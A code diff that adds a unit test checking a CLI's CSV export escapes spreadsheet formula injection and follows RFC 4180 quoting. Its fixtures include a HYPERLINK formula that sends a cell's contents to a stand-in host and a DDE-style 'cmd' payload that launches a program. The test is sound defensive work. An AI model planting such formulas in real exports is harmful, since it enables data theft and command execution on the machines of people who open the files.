@@ -8,6 +8,7 @@ import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
 import { builtExecutable, cli, tempDir, until } from './helpers.js';
+import { csvField } from '../../src/cli/commands/logs.js';
 import { manifestJsonSchema } from '../../src/cli/manifest.js';
 import {
   AWS_TEMPLATE_ID,
@@ -637,6 +638,24 @@ describe('entra-provisioning CLI', () => {
     expect(table.stdout.split('\n')[0]).toMatch(/^time\s+action\s+status/);
     expect(table.stdout.trim().split('\n')).toHaveLength(6);
     expect((await cli(['--fake', 'logs', '--since', 'yesterday'], { fake })).code).toBe(2);
+  });
+
+  it('writes a CSV field a spreadsheet would run as a formula behind a quote, and quotes per RFC 4180', () => {
+    expect(csvField('=HYPERLINK("https://x.example/?"&A1,"ok")')).toBe(
+      '"\'=HYPERLINK(""https://x.example/?""&A1,""ok"")"',
+    );
+    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
+      expect(csvField(`${lead}1+1`).replace(/^"/, '')).toMatch(/^'/);
+    }
+    expect(csvField('Ada Lovelace')).toBe('Ada Lovelace');
+    expect(csvField('2026-01-01T00:00:00Z')).toBe('2026-01-01T00:00:00Z');
+    expect(csvField('a, b')).toBe('"a, b"');
+    expect(csvField('say "hi"')).toBe('"say ""hi"""');
+    expect(csvField('x=1')).toBe('x=1');
+    expect(csvField(' =1+1')).toBe("' =1+1");
+    expect(csvField('\u00a0=1+1')).toBe("'\u00a0=1+1");
+    expect(csvField("Ada;=cmd|' /C calc'!A0")).toBe('"Ada;=cmd|\' /C calc\'!A0"');
+    expect(csvField('x\t=1+1')).toBe('"x\t=1+1"');
   });
 
   it('follows the logs until the signal fires, printing each new event once', async () => {
